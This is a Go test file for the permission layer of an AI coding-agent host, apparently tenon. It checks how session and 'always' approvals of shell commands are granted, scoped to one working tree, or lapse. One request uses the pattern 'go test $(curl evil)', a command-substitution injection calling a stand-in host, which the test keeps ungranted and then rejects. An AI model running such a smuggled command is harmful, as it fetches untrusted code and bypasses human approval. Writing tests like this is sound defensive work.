package permission_test

import (
	"context"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tenonhq/tenon/host/permission"
	"github.com/tenonhq/tenon/host/store"
	"github.com/tenonhq/tenon/sdk"
)

// TestAllowInSessionGrantsNoOther: an answer that covers a waiting request does not grant one that must be asked.
func TestAllowInSessionGrantsNoOther(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	defer cancel()
	approvals := &permission.Approvals{Root: func(_ context.Context, session string) (string, error) { return session, nil }}
	asks := permission.NewAsks(ctx, approvals)
	type result struct {
		id  string
		err error
	}
	ended := make(chan result, 3)
	told := make(chan struct{}, 3)
	ask := func(id, pattern string, asked bool) {
		r := sdk.PermissionRequest{ID: id, SessionID: "ses_a", Permission: "bash", Patterns: []string{pattern}, Always: []string{"go test *"}}
		go func() { // ends with the answer
			err := permission.AskPermission(ctx, asks, r, asked, false, func(e sdk.Event) {
				if e.Type == sdk.EventPermissionAsked {
					told <- struct{}{}
				}
			})
			ended <- result{id, err}
		}()
		<-told
	}
	ask("per_1", "go test ./a", false)
	ask("per_2", "go test ./b", false)
	ask("per_3", "go test $(curl evil)", true)
	if err := asks.AllowInSession("per_1"); err != nil {
		t.Fatal(err)
	}
	granted := []string{}
	for range 2 {
		r := <-ended
		if r.err != nil {
			t.Errorf("%s: %v", r.id, r.err)
		}
		granted = append(granted, r.id)
	}
	slices.Sort(granted)
	if left := asks.Permissions(); !slices.Equal(granted, []string{"per_1", "per_2"}) || len(left) != 1 || left[0].ID != "per_3" {
		t.Errorf("granted %q, waiting %+v", granted, left)
	}
	if err := asks.ReplyPermission("per_3", sdk.ReplyReject, ""); err != nil {
		t.Fatal(err)
	}
	var refusal *sdk.Refusal
	if r := <-ended; !errors.As(r.err, &refusal) {
		t.Errorf("the rejected request ended with %v", r.err)
	}
}

// TestAlwaysApprovesNoFile: the answer "always" to a plugin's request approves no file of the project.
func TestAlwaysApprovesNoFile(t *testing.T) {
	t.Parallel()
	a := &permission.Approvals{} // without a store
	_, err := a.Keep(t.Context(), &sdk.PermissionRequest{Permission: "project rules", Always: []string{"/project/tenon.json@0123"}})
	if err == nil || !strings.Contains(err.Error(), "tenon permission approve") {
		t.Errorf("Keep = %v, want an error with the command for files", err)
	}
}

// memory keeps approvals in memory.
type memory struct {
	store.Store
	list []store.Approval
}

func (m *memory) Approve(_ context.Context, list []store.Approval) error {
	m.list = append(m.list, list...)
	return nil
}

func (m *memory) Approvals(context.Context, string) ([]store.Approval, error) { return m.list, nil }

// TestAlwaysUnconfinedHere: "always" for a command outside the sandbox holds for the working tree, not for others with the same first commit.
func TestAlwaysUnconfinedHere(t *testing.T) {
	t.Parallel()
	root := func(_ context.Context, session string) (string, error) { return session, nil }
	kept := &memory{list: []store.Approval{{Permission: sdk.PermissionUnconfined, Pattern: "old"}}} // of an earlier version, for any place
	at := func(dir string) *permission.Approvals {
		return &permission.Approvals{Store: kept, Project: sdk.Project{Git: true, ID: "first", Worktree: dir}, Root: root}
	}
	for _, key := range []string{"bash", sdk.PermissionUnconfined} {
		rules, err := at("/here").Keep(t.Context(), &sdk.PermissionRequest{Permission: key, Always: []string{"make deploy"}})
		if err != nil || !rules.Approve(&sdk.PermissionRequest{Permission: key, Patterns: []string{"make deploy"}}) {
			t.Fatalf("Keep(%s) = %v, %v; want rules that approve it", key, rules, err)
		}
	}
	for _, c := range []struct {
		dir, permission, command string
		want                     bool
	}{
		{"/here", sdk.PermissionUnconfined, "make deploy", true},
		{"/elsewhere", sdk.PermissionUnconfined, "make deploy", false},
		{"/here", sdk.PermissionUnconfined, "old", false},
		{"/elsewhere", "bash", "make deploy", true},
	} {
		covered, err := at(c.dir).Cover(t.Context(), &sdk.PermissionRequest{Permission: c.permission, Patterns: []string{c.command}})
		if err != nil || covered != c.want {
			t.Errorf("%s: %s %s: Cover = %v, %v; want %v", c.dir, c.permission, c.command, covered, err, c.want)
		}
	}
}

// TestAskWithoutAnswer: a request whose call ends is not granted, and does not wait any more.
func TestAskWithoutAnswer(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithCancel(t.Context())
	asks := permission.NewAsks(t.Context(), &permission.Approvals{})
	published := func(e sdk.Event) {
		if r, ok := e.Properties.(*sdk.PermissionReplied); ok && r.Reply != sdk.ReplyReject {
			t.Errorf("reply = %q, want a rejection", r.Reply)
		}
		cancel()
	}
	err := permission.AskPermission(ctx, asks, sdk.PermissionRequest{ID: "per_1", Permission: "bash", Patterns: []string{"ls"}}, false, true, published)
	if !errors.Is(err, context.Canceled) || len(asks.Permissions()) != 0 {
		t.Errorf("AskPermission = %v, and %d requests wait; want an error and none", err, len(asks.Permissions()))
	}
}
